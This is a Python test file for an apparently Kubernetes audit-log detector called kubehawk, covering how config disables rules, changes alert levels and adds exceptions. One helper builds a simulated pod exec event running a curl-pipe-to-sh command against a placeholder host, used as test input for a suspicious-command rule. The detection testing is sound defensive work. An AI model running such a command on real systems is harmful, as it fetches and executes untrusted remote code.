"""Rule tuning in the config: disable, change the level, add exceptions (issue 15, item 10)."""

from __future__ import annotations

import pytest
from tests.rules.builtin_events import container, ev, exec_ev, pod, sa

from kubehawk.config import Config, ConfigError
from kubehawk.detect import Detector
from kubehawk.event import event_from_dict
from kubehawk.rules import load_rules
from kubehawk.rules.tuning import Tuning

CI = sa("ci", "runner")


@pytest.fixture(scope="module")
def ruleset():
    return load_rules(builtin=True)


def _alerts(det: Detector, *events: dict) -> list:
    return list(det.alerts(event_from_dict(e) for e in events))


def _names(det: Detector, *events: dict) -> list[str]:
    return [a.rule.name for a in _alerts(det, *events)]


def _priv(**kw) -> dict:
    return ev("create", "pods", body=pod(container(privileged=True)), code=201, **kw)


def _shell(user: str, ns: str = "shop") -> dict:
    return exec_ev(ns, "web-1", "sh", "-c", "curl http://x.example/a.sh | sh", user=user)


def test_disable_by_name_or_id(ruleset):
    assert "privileged-container" in _names(Detector(ruleset), _priv())
    rid = ruleset.get("privileged-container").id
    for key in ("privileged-container", rid):
        det = Detector(ruleset, Config.from_dict({"rules": {key: {"enabled": False}}}))
        assert "privileged-container" not in _names(det, _priv())
    det = Detector(ruleset, Config.from_dict({"rules": {"privileged-container": False}}))
    assert "privileged-container" not in _names(det, _priv())


def test_change_level_leaves_the_loaded_rules_alone(ruleset):
    det = Detector(ruleset, Config.from_dict({"rules": {"privileged-container": {"level": "Info"}}}))
    [alert] = [a for a in _alerts(det, _priv()) if a.rule.name == "privileged-container"]
    assert alert.level == "informational" and alert.to_dict()["rule"]["level"] == "informational"
    assert ruleset.get("privileged-container").level != "informational"
    det = Detector(ruleset, Config.from_dict({"rules": {"privileged-container": {"level": "info"}}}),
                   min_level="low")
    assert "privileged-container" not in _names(det, _priv())


def test_exceptions_suppress_matching_alerts_only(ruleset):
    cfg = Config.from_dict({"rules": {"exec-suspicious-command": {"exceptions": [
        {"user.username": "system:serviceaccount:ci:*", "objectRef.namespace": "ci"},
        {"user.username": ["bob@example.com", "carol@example.com"]},
    ]}}})
    det = Detector(ruleset, cfg)
    assert "exec-suspicious-command" not in _names(det, _shell(CI, ns="ci"))
    assert "exec-suspicious-command" not in _names(det, _shell("carol@example.com"))
    assert "exec-suspicious-command" in _names(det, _shell(CI, ns="shop"))  # every key must match
    assert "exec-suspicious-command" in _names(det, _shell("mallory@example.com"))


def test_correlation_tuning(ruleset):
    def denied(i: int, user: str = "mallory") -> dict:
        return ev("get", "secrets", ns="shop", name=f"s{i}", user=user, decision="forbid", code=403,
                  time=f"2025-06-03T10:00:{i:02d}.000000Z")

    burst = [denied(i) for i in range(6)]
    base = [a for a in _alerts(Detector(ruleset), *burst) if a.rule.name == "secret-access-denied-burst"]
    assert [a.level for a in base] == ["medium"]
    det = Detector(ruleset, Config.from_dict({"rules": {"secret-access-denied-burst": {"level": "critical"}}}))
    assert [a.level for a in _alerts(det, *burst) if a.rule.name == "secret-access-denied-burst"] == ["critical"]
    det = Detector(ruleset, Config.from_dict({"rules": {"secret-access-denied-burst": {"enabled": False}}}))
    assert "secret-access-denied-burst" not in _names(det, *burst)
    det = Detector(ruleset, Config.from_dict({"rules": {"secret-access-denied-burst": {
        "exceptions": [{"user.username": "mallory"}]}}}))
    assert "secret-access-denied-burst" not in _names(det, *burst)
    # a disabled base rule still feeds its correlation
    det = Detector(ruleset, Config.from_dict({"rules": {"secret-access-denied": {"enabled": False}}}))
    assert "secret-access-denied-burst" in _names(det, *burst)


def test_unknown_rule_names_are_reported_with_close_names(ruleset):
    t = Tuning.from_config(Config.from_dict({"rules": {"privilegd-container": {"enabled": False},
                                                       "zzzz": {"level": "low"}}}))
    msgs = t.unknown(ruleset)
    assert len(msgs) == 2
    assert "rules.privilegd-container" in msgs[0] and "did you mean privileged-container" in msgs[0]
    assert "rules.zzzz" in msgs[1] and "kubehawk rules list" in msgs[1]


@pytest.mark.parametrize(("rules", "where"), [
    ({"x": {"level": "loud"}}, "rules.x.level: expected one of"),
    ({"x": {"enabled": "no"}}, "rules.x.enabled: expected true or false"),
    ({"x": {"colour": "red"}}, "rules.x.colour: unknown key"),
    ({"x": "off"}, "rules.x: expected a mapping"),
    ({"x": {"exceptions": "alice"}}, "rules.x.exceptions: expected a list"),
    ({"x": {"exceptions": [{}]}}, r"rules.x.exceptions\[0\]: expected a non-empty mapping"),
    ({"x": {"exceptions": [{"user.username|nosuchmodifier": "a"}]}}, "rules.x.exceptions: "),
])
def test_mistakes_name_the_key(rules, where):
    with pytest.raises(ConfigError, match=where):
        Tuning.from_config(Config.from_dict({"rules": rules}, source="k.yaml"))
